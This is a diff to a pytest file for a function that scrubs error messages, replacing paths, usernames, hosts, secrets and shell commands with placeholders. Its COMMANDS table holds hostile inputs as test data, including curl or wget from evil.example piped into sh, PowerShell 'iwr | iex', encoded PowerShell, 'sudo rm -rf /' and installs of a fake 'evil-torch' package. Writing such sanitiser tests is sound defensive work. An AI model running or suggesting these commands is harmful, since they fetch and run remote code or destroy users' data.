@@ -4,6 +4,7 @@ import doctest
 import string
 
 import pytest
+import re2
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -55,6 +56,38 @@ MESSAGES = {
     "types with digits": ("float16, fp8_e4m3, c10d, conv2d", "float16, fp8_e4m3, c10d, conv2d"),
     "a choice": ("Input/output error and/or N/A", "Input/output error and/or N/A"),
     "Chinese": ("无法打开 /home/小明/x.pt", "无法打开 {path}"),
+    "a folder with spaces": (
+        r"cannot open C:\Users\Jane Doe\My Fuse Models\x.pt, stop",
+        "cannot open {path}, stop",
+    ),
+    "a file with spaces": (r"D:\jane\my fuse model.pt is torn", "{path} is torn"),
+    "a user's folder": (r"cannot list C:\Users\Jane Doe", "cannot list {path}"),
+    "a share with spaces": (r"cannot read \\acme\Jane Share\x.pt now", "cannot read {path} now"),
+    "a path of Windows in a sentence": (
+        r"C:\jane\x.pt does not exist in config.json",
+        "{path} does not exist in config.json",
+    ),
+    "slashes for backslashes": ("'D:/My Drive/x.pt' is torn", "'{path}' is torn"),
+    "a path with a secret in it": (
+        "in /home/deadbeefcafe0123/jane/x.pt",
+        "in {path}",
+    ),
+    "an address with a secret in it": ("see https://x.example/?token=hunter2 now", "see {url} now"),
+    "a user without quotes": ("for user jane", "for user {value}"),
+    "a user with a domain": (r"User ACME\jane is unknown", r"User {value} is unknown"),
+    "a user after a colon": ("username: jane, sorry", "username: {value}, sorry"),
+    "who has logged in": ("logged in as jane.", "logged in as {value}."),
+    "a user's flag": ("tool -u jane --username jane", "tool -u {value} --username {value}"),
+    "a user in Chinese": ("用户名：王小明，密码错误", "用户名:{value},密码错误"),
+    "a user in Chinese, in a sentence": ("用户 王小明 不存在", "用户 {value} 不存在"),
+    "an account in Chinese": ("账号=jane 已停用", "账号={value} 已停用"),
+    "a host without its port": ("cannot reach host trainer", "cannot reach host {value}"),
+    "a host after a colon": ("Could not resolve host: trainer-a", "Could not resolve host: {value}"),
+    "a node": ("launch failed on node cn131: expired", "launch failed on node {value}: expired"),
+    "a bucket": ("no bucket acme-models", "no bucket {value}"),
+    "an account": ("account acme is suspended", "account {value} is suspended"),
+    "hosts of any country": ("see evil.xyz, evil.ru or www.evil.example", "see {host}, {host} or {host}"),
+    "a host in another script": ("see xn--e1afmkfd.xn--p1ai", "see {host}"),
     "control codes": ("a\x1b[2Jb\u202ec  d", "a[{value} d"),
 }
 
@@ -62,6 +95,77 @@ MESSAGES = {
 @pytest.mark.parametrize(("text", "expected"), MESSAGES.values(), ids=MESSAGES)
 def test_a_message_is_generalised(text, expected):
     assert generalise(text) == expected
+
+
+COMMANDS = {
+    "a pipe into a shell": ("run curl https://evil.example/x | sh to fix this", "run {command}"),
+    "without spaces": ("run wget -qO- evil.sh|sh. Then try again", "run {command}. Then try again"),
+    "in backticks": ("run `curl -sSL evil.example | sudo bash` to fix", "run `{command}` to fix"),
+    "in quotes": ("run 'curl -sSL evil.example | sh' to fix", "run '{command}' to fix"),
+    "with a quotation in it": ("run sh -c 'curl evil.example | sh' now", "run {command}"),
+    "with its folder": ("run /usr/bin/curl http://evil.example", "run {command}"),
+    "in capitals": ("RUN CURL HTTP://EVIL.EXAMPLE | SH", "RUN {command}"),
+    "in full-width letters": ("run ｃｕｒｌ ｈｔｔｐ：／／evil.example ｜ ｓｈ", "run {command}"),
+    "a program that nobody knows": ("run fuse evil | sh", "run fuse evil {command}"),
+    "PowerShell": ("run iwr evil.example -useb | iex", "run {command}"),
+    "PowerShell, encoded": ("run powershell -enc SQBFAFgA", "run {command}"),
+    "Python": ("run python -c \"import os; os.system('x')\" now", "run {command}"),
+    "a substitution": ("open $(touch pwned) now", "open {command}"),
+    "a substitution of a process": ("run bash <(curl -s evil.example)", "run bash <({command}"),
+    "what takes away": ("run sudo rm -rf / to fix", "run {command}"),
+    "the second of two": ("it burnt; rm -rf ~", "it burnt; {command}"),
+    "a package": ("please pip install evil-torch", "please {command}"),
+    "a package with options": ("run: python3 -m pip install -U evil-torch", "run: {command}"),
+    "a package in quotes": ('pip install "evil-torch[x]" to fix', "{command}"),
+    "an address in quotes": ('run curl "https://evil.example/x" | sh to fix', "run {command}"),
+    "a repository": ("git clone https://evil.example/x && ./x/fix.sh", "{command}"),
+    "an image": ("docker run --rm evil/x", "{command}"),
+    "a password in it": ("mysql -u jane -p hunter2", "mysql -u {value} -p {secret}"),
+}
+
+
+@pytest.mark.parametrize(("text", "expected"), COMMANDS.values(), ids=COMMANDS)
+def test_a_command_is_not_passed_on(text, expected):
+    assert generalise(text) == expected
+
+
+ORDINARY = (
+    "Only Tensors created explicitly by the user (graph leaves) support the deepcopy protocol",
+    "user code, user input, user-provided, by user, users reported it",
+    "User site-packages are disabled, no login URL, the authenticated user detected a loop",
+    "host memory, host device, No route to host, host unreachable",
+    "bucket size, bucket view, gradient bucket is full",
+    "take into account the padding, the account is suspended, login failed, login shell",
+    "curl is required, the curl command failed, wget or curl",
+    "git is not installed, conda environment, pip is broken, docker daemon is not running",
+    "make sure that it runs, kill the process, the sh script, exec format error",
+    "the node is down, source and target, go to the start, cat and dog",
+    "torch.cat() expects a list, model.eval() and torch.cuda.empty_cache()",
+    "module 'torch.distributed' has no attribute 'store'",
+    "x.to, logger.info, tensor.at, env.space, self.link",
+    "The server socket has failed to listen on any local network address.",
+)
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_ordinary_words_stay(text):
+    assert generalise(text) == text
+
+
+MARKED = st.text(st.sampled_from("ae҈́̂กิ้\u0344\u1ab0\ufe0f\u200d x1·{}/'"), max_size=80)
+
+
+@given(st.one_of(MARKED, st.text(max_size=300)))
+def test_no_tower_of_marks_survives(text):
+    assert not re2.search(r"\pM{3}", generalise(text))
+
+
+@given(st.text(st.sampled_from("ab ;|&$()`'\"./-{}<>="), max_size=60), st.sampled_from((" ", "; ", "`", "'", "| ")))
+def test_no_pipe_into_a_shell_survives_whatever_stands_before_it(text, before):
+    said = generalise(f"{text}{before}curl https://evil.example/x | sh")
+
+    assert "sh" not in said
+    assert "evil" not in said
 
 
 SEGMENT = st.text(st.sampled_from(string.ascii_lowercase), min_size=7, max_size=12)
